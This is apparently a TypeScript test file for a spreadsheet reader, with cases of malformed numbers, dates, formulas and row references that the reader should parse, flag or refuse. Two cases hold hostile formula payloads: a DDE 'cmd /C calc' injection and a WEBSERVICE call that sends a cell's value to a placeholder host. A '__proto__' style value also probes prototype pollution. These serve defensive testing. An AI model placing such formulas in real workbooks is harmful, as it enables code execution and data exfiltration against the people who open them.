/** Cells whose value is not what it seems. */
import { sheet, strings, styles, workbook } from '../../workbook/read/parts.ts';
import { type HostileCase, reads, refused } from '../hostileCase.ts';

const cell = (inner: string, more: Parameters<typeof workbook>[0] = {}): Uint8Array =>
  workbook({ sheet: sheet(`<row r="1">${inner}</row>`), ...more });
const dated = (serial: string, date1904 = false): Uint8Array =>
  cell(`<c r="A1" s="0"><v>${serial}</v></c>`, {
    styles: styles([14]),
    ...(date1904 && { workbookExtra: '<workbookPr date1904="1"/>' }),
  });
const odd = (kind: string) => ({ oddities: { A1: kind } });

const STRANGE_NUMBERS = ['NaN', 'Infinity', '1,5', '0x10', '1_000', '1e400', '--1', '1 2', '٣', '1.2.3', '='];

export const values: readonly HostileCase[] = [
  ...STRANGE_NUMBERS.map((text) =>
    reads(
      `a number that reads ${text}`,
      () => cell(`<c r="A1"><v>${text}</v></c>`),
      { A1: null },
      odd('value_unreadable'),
    ),
  ),
  reads(
    'numbers in all legal forms',
    () => cell('<c r="A1"><v>1E3</v></c><c r="B1"><v> -.5 </v></c><c r="C1"><v>+7.</v></c>'),
    { A1: 1000, B1: -0.5, C1: 7 },
  ),
  reads('a boolean that is none', () => cell('<c r="A1" t="b"><v>2</v></c>'), { A1: null }, odd('value_unreadable')),
  reads(
    'a type that does not exist',
    () => cell('<c r="A1" t="x"><v>2</v></c>'),
    { A1: null },
    odd('value_unreadable'),
  ),
  refused(
    'a shared string that does not exist',
    () => cell('<c r="A1" t="s"><v>5</v></c>', { strings: strings('<t>x</t>') }),
    'FILE_DAMAGED',
  ),
  refused(
    'a shared string before the first',
    () => cell('<c r="A1" t="s"><v>-1</v></c>', { strings: strings('<t>x</t>') }),
    'FILE_DAMAGED',
  ),
  refused(
    'a shared string by a fraction',
    () => cell('<c r="A1" t="s"><v>0.5</v></c>', { strings: strings('<t>x</t>') }),
    'FILE_DAMAGED',
  ),
  refused('texts without their part', () => cell('<c r="A1" t="s"><v>0</v></c>'), 'FILE_DAMAGED'),
  reads(
    'a text too long for a cell',
    () => cell(`<c r="A1" t="str"><v>${'x'.repeat(32_768)}</v></c>`),
    { A1: null },
    odd('value_unreadable'),
  ),
  reads('a text as long as a cell', () => cell(`<c r="A1" t="str"><v>${'x'.repeat(32_767)}</v></c>`), {
    A1: 'x'.repeat(32_767),
  }),
  reads('a formula with its result', () => cell('<c r="A1"><f>1+1</f><v>2</v></c>'), { A1: 2 }, odd('formula')),
  reads(
    'a formula without a result',
    () => cell('<c r="A1"><f>1+1</f></c>'),
    { A1: null },
    odd('formula_without_result'),
  ),
  reads(
    'a formula that runs a program',
    () => cell(`<c r="A1" t="str"><f>cmd|' /C calc'!A0</f><v>ok</v></c>`),
    { A1: 'ok' },
    odd('formula'),
  ),
  reads(
    'a formula that calls the network',
    () => cell('<c r="A1" t="str"><f>WEBSERVICE("http://x/"&amp;A2)</f><v>ok</v></c>'),
    { A1: 'ok' },
    odd('formula'),
  ),
  reads('a formula that names itself', () => cell('<c r="A1"><f>A1</f><v>0</v></c>'), { A1: 0 }, odd('formula')),
  reads(
    'an array formula',
    () => cell('<c r="A1"><f t="array" ref="A1:XFD1048576">1</f><v>1</v></c>'),
    { A1: 1 },
    odd('formula'),
  ),
  reads(
    'a shared formula over the sheet',
    () => cell('<c r="A1"><f t="shared" si="0" ref="A1:A1048576">1</f><v>1</v></c>'),
    { A1: 1 },
    odd('formula'),
  ),
  reads(
    'a data table',
    () => cell('<c r="A1"><f t="dataTable" ref="A1:Z99" dt2D="1" r1="A1" r2="B1"/><v>1</v></c>'),
    { A1: 1 },
    odd('formula'),
  ),
  reads(
    'a formula of 32,000 characters',
    () => cell(`<c r="A1"><f>${'1+'.repeat(16_000)}1</f><v>1</v></c>`),
    { A1: 1 },
    odd('formula'),
  ),
  reads(
    'formulas in a workbook calculated by hand are stale',
    () => cell('<c r="A1"><f>NOW()</f><v>2</v></c>', { workbookExtra: '<calcPr calcMode="manual"/>' }),
    { A1: 2 },
    odd('formula_stale'),
  ),
  reads(
    'an error as a result',
    () => cell('<c r="A1" t="e"><f>1/0</f><v>#DIV/0!</v></c>'),
    { A1: null },
    odd('error_value'),
  ),
  reads(
    'text that is a formula stays text',
    () => cell('<c r="A1" t="str"><v>=1+1</v></c><c r="B1" t="inlineStr"><is><t>@SUM(A1)</t></is></c>'),
    { A1: '=1+1', B1: '@SUM(A1)' },
  ),
  reads('a date of 1900', () => dated('45000'), { A1: '2023-03-15' }),
  reads('a date of 1904', () => dated('43460', true), { A1: '2022-12-27' }),
  reads('29 February 1900, which never was', () => dated('60'), { A1: 60 }, odd('date_impossible')),
  reads('a date before all dates', () => dated('-5'), { A1: -5 }, odd('date_impossible')),
  reads('a date past the year 9999', () => dated('2958466'), { A1: 2_958_466 }, odd('date_impossible')),
  reads('a date past all numbers', () => dated('1e300'), { A1: 1e300 }, odd('date_impossible')),
  reads('a date as ISO text', () => cell('<c r="A1" t="d"><v>2024-03-01T00:00:00.000Z</v></c>'), { A1: '2024-03-01' }),
  reads(
    'a day that does not exist as ISO text',
    () => cell('<c r="A1" t="d"><v>2023-02-29</v></c>'),
    { A1: null },
    odd('value_unreadable'),
  ),
  refused('a cell outside the sheet', () => cell('<c r="XFE1"><v>1</v></c>'), 'FILE_DAMAGED'),
  refused(
    'a row below the sheet',
    () => workbook({ sheet: sheet('<row r="1048577"><c><v>1</v></c></row>') }),
    'FILE_DAMAGED',
  ),
  refused('a row zero', () => workbook({ sheet: sheet('<row r="0"><c><v>1</v></c></row>') }), 'FILE_DAMAGED'),
  refused('a row of minus one', () => workbook({ sheet: sheet('<row r="-1"><c><v>1</v></c></row>') }), 'FILE_DAMAGED'),
  refused('a row beyond counting', () => workbook({ sheet: sheet('<row r="99999999999999999999"/>') }), 'FILE_DAMAGED'),
  refused(
    'a cell in another row',
    () => workbook({ sheet: sheet('<row r="2"><c r="A1"><v>1</v></c></row>') }),
    'FILE_DAMAGED',
  ),
  refused('a cell twice', () => cell('<c r="A1"><v>1</v></c><c r="A1"><v>2</v></c>'), 'FILE_DAMAGED'),
  refused('a row twice', () => workbook({ sheet: sheet('<row r="2"/><row r="2"/>') }), 'FILE_DAMAGED'),
  refused('a cell nowhere', () => cell('<c r="1A"><v>1</v></c>'), 'FILE_DAMAGED'),
  refused('two values in one cell', () => cell('<c r="A1"><v>1</v><v>2</v></c>'), 'FILE_DAMAGED'),
  reads(
    'a style that does not exist',
    () => cell('<c r="A1" s="999999"><v>1</v></c><c r="B1" s="-1"><v>2</v></c><c r="C1" s="__proto__"><v>3</v></c>'),
    { A1: 1, B1: 2, C1: 3 },
  ),
];
